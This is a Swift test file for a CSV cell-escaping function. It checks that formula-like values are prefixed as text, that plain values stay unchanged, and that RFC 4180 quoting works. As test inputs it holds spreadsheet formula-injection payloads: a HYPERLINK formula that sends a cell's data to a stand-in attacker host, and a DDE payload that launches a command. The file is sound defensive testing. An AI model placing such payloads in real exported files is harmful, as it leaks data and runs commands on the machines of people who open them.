import Testing
import UseCases

@Suite struct `A cell of a CSV file` {
  @Test(arguments: [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&C2,\"点此\")", "@SUM(A1)", "+1+1", "-1+1", "+cmd|' /C calc'!A0", "-",
    "+",
    "\t=1+1", "\r=1+1", "\r\n=1+1", "\n=1", "＝1+1", "＠x", "＋1", "－1", "-1.2.3",
  ])
  func `that a spreadsheet would take for a formula is marked as text`(text: String) {
    let cell = csvCell(text)
    #expect(cell.hasPrefix("'") || cell.hasPrefix("\"'"))
  }

  @Test(arguments: [
    "", "张三", "12", "-12", "-3.5", "+8613800001234", "+86 138 0000 1234", "2026-11-23", "a=b", "'=1",
    "https://x.example",
  ])
  func `that is a number or plain text stays`(text: String) {
    #expect(csvCell(text) == text)
  }

  @Test func `is quoted as RFC 4180 says`() {
    #expect(csvCell("a,b") == "\"a,b\"")
    #expect(csvCell("说“\"”") == "\"说“\"\"”\"")
    #expect(csvCell("=a,b") == "\"'=a,b\"")
    #expect(csvField("=a,b") == "\"=a,b\"")
  }
}
